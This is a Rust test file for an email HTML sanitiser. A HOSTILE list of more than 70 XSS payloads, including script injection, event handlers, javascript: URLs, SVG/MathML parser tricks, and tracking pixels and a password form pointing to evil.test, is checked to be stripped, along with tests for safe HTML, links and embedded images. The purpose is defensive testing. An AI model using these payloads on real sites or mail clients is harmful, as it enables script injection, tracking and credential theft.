use std::collections::HashMap;

use super::super::{
    html::tags,
    sanitise::{sanitise, show_images},
};

/// Ways to run a script, load something or leave the frame (P21).
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\t>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img src=javascript:alert(1)>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<img srcset=\"https://evil.test/x 1x\" src=x>",
    "<img src=\"https://evil.test/pixel.gif\" width=1 height=1>",
    "<img src=\"//evil.test/pixel.gif\">",
    "<img src=\"HtTpS://evil.test/pixel.gif\">",
    "<img src=\" https://evil.test/a\" src=\"https://evil.test/b\">",
    "<img lowsrc=https://evil.test/x dynsrc=https://evil.test/y>",
    "<image src=https://evil.test/x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\" java\tscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=\"blob:https://evil.test/x\">x</a>",
    "<a href=\"cid:x\">x</a>",
    "<a href=/logout>x</a>",
    "<a href=\"//evil.test\" ping=https://evil.test/p target=_top rel=opener>x</a>",
    "<a href=\"https://acme.test\" onclick=alert(1) style=\"position:fixed;inset:0\">x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<style>@import 'https://evil.test/x.css'</style>",
    "<p style=\"background:url(https://evil.test/x)\">x</p>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.test\">",
    "<base href=https://evil.test/><a href=x>x</a>",
    "<iframe src=https://evil.test></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=https://evil.test/x.swf></object><embed src=https://evil.test/x.swf>",
    "<applet code=x></applet><bgsound src=https://evil.test/x>",
    "<video poster=https://evil.test/x src=https://evil.test/y onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=https://evil.test/x autoplay></audio>",
    "<body onload=alert(1) background=https://evil.test/x>x</body>",
    "<table background=https://evil.test/x><tr><td background=https://evil.test/y>x</td></tr></table>",
    "<form action=https://evil.test><input name=password type=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)><select onfocus=alert(1)><option>x</select><textarea>x</textarea>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<div onmouseover=alert(1) id=x name=y contenteditable>x</div>",
    "<div id=\"appendonsend\" class=\"gmail_quote evil\" onclick=alert(1)>x</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?><![CDATA[<script>alert(1)</script>]]>",
    "<p title=\"\u{2028}\"onmouseover=alert(1)>x</p>",
    "<a title=\"</a><img src=x onerror=alert(1)>\" href=https://acme.test>x</a>",
    "<blockquote cite=https://evil.test type=cite onclick=alert(1)>x</blockquote>",
    "<font color=\"red\" size=\"7\" face=\"x\" onfinish=alert(1)>x</font>",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<plaintext><script>alert(1)</script>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<marquee onstart=alert(1)>x</marquee><isindex action=javascript:alert(1) type=image>",
];

/// Looks at what is left as a browser would.
fn check(hostile: &str) {
    const ELEMENTS: &str = " a abbr address b bdi bdo big blockquote br caption center cite code col colgroup dd del \
        dfn div dl dt em figcaption figure font h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s \
        samp small span strike strong sub sup table tbody td tfoot th thead time tr tt u ul var wbr ";
    const ATTRIBUTES: &str = " align alt bgcolor border cellpadding cellspacing class color colspan data-src datetime \
        dir face height href id lang rel rowspan scope size span src start target title type valign width ";
    let Ok(clean) = sanitise(hostile, &HashMap::new()) else {
        // Not shown at all.
        return assert!(hostile.contains("CDATA"), "{hostile}");
    };
    let clean = clean.html;
    for tag in tags(&clean) {
        let name = &clean[tag.name.clone()];
        assert!(ELEMENTS.contains(&format!(" {name} ")), "{hostile}\n{clean}");
        for attribute in &tag.attributes {
            let (name, value) = (&clean[attribute.name.clone()], &clean[attribute.value.clone()]);
            assert!(ATTRIBUTES.contains(&format!(" {name} ")), "{hostile}\n{clean}");
            let fits = match name {
                "href" => {
                    ["http://", "https://", "mailto:", "tel:"].iter().any(|scheme| value.starts_with(scheme))
                }
                "src" => value.is_empty() || value.starts_with("data:image/png;base64,"),
                "id" => matches!(value, "appendonsend" | "divRplyFwdMsg" | "OLK_SRC_BODY_SECTION"),
                "class" => value.is_empty() || value == "gmail_quote",
                _ => true,
            };
            assert!(fits, "{hostile}\n{clean}");
        }
    }
    // Reading it again makes nothing else of it; blocked images alone go.
    let again = sanitise(&clean, &HashMap::new()).expect("simple HTML").html;
    let names =
        |html: &str| tags(html).map(|tag| (tag.closes, html[tag.name].to_owned())).collect::<Vec<_>>();
    assert_eq!(names(&again), names(&clean), "{hostile}");
}

#[test]
fn nothing_hostile_is_left() {
    for hostile in HOSTILE {
        check(hostile);
        check(&format!("<p>before</p>{hostile}<p>after</p>"));
        check(&format!("<table><tr><td>{hostile}</td></tr></table>"));
        check(&format!("<div title=\"{hostile}\">x</div>"));
    }
    assert!(HOSTILE.len() >= 60);
}

#[test]
fn harmless_html_stays() {
    for html in [
        "<p align=\"center\">Hello <b>there</b>, <i>Ana</i><br>x</p>",
        "<table width=\"600\" bgcolor=\"#fff\"><tbody><tr><td colspan=\"2\" valign=\"top\">a</td></tr></tbody></table>",
        "<ul><li>one</li><li>two</li></ul><ol start=\"3\"><li>three</li></ol>",
        "<h1>x</h1><pre>  y\n z</pre><hr><font color=\"red\" face=\"Arial\" size=\"2\">w</font>",
        "<blockquote type=\"cite\">quoted</blockquote><div class=\"gmail_quote\">x</div><div id=\"appendonsend\"></div>",
        "<img alt=\"dot\" src=\"data:image/png;base64,iVBORw0KGgo=\">",
        "a &lt; b &amp; c",
    ] {
        assert_eq!(sanitise(html, &HashMap::new()).expect("simple HTML").html, html);
    }
}

#[test]
fn links_open_elsewhere() {
    let clean = sanitise("<a href=\"https://acme.test/?a=1&amp;b=2\" target=_self>x</a>", &HashMap::new())
        .expect("HTML");
    for part in [
        "href=\"https://acme.test/?a=1&amp;b=2\"",
        "target=\"_blank\"",
        "rel=\"noopener noreferrer nofollow\"",
    ] {
        assert!(clean.html.contains(part), "{}", clean.html);
    }
}

#[test]
fn images_of_the_mail_get_their_addresses() {
    let images = HashMap::from([
        ("logo@shop.test".to_owned(), "/files/1?a=1&b=\"2\"".to_owned()),
        ("a b&c".to_owned(), "/files/2".to_owned()),
    ]);
    for (html, expected) in [
        ("<img src=\"cid:logo@shop.test\">", "<img src=\"/files/1?a=1&amp;b=&quot;2&quot;\">"),
        ("<img src=\"CID:logo%40shop.test\">", "<img src=\"/files/1?a=1&amp;b=&quot;2&quot;\">"),
        ("<img src=\"cid:a%20b&amp;c\">", "<img src=\"/files/2\">"),
        ("<img alt=\"x\" src=\"cid:other\">", "<img alt=\"x\" src=\"\">"),
        ("<img alt=\"cid:logo@shop.test\">", "<img alt=\"cid:logo@shop.test\">"),
        ("<p>cid:logo@shop.test</p>", "<p>cid:logo@shop.test</p>"),
    ] {
        let clean = sanitise(html, &images).expect("simple HTML");
        assert_eq!((clean.html.as_str(), clean.blocked_images), (expected, 0));
    }
}

#[test]
fn remote_images_wait_until_asked_for() {
    let html = "<p>a</p><img src=\"https://x.test/1.png?a=1&amp;b=2\" alt=\"src=&quot;x&quot; > y\"><img src=\"http://x.test/2.png\"><img src=\"cid:z\">";
    let images = HashMap::from([("z".to_owned(), "/files/z".to_owned())]);
    let clean = sanitise(html, &images).expect("simple HTML");
    assert_eq!(clean.blocked_images, 2);
    assert_eq!(clean.html.matches(" src=\"").count(), 1, "{}", clean.html);
    let shown = show_images(&clean.html);
    assert_eq!(shown.matches("data-src").count(), 0);
    for address in
        ["src=\"https://x.test/1.png?a=1&amp;b=2\"", "src=\"http://x.test/2.png\"", "src=\"/files/z\""]
    {
        assert!(shown.contains(address), "{shown}");
    }
    assert_eq!(show_images("<p title=\"data-src\">data-src</p>"), "<p title=\"data-src\">data-src</p>");
}
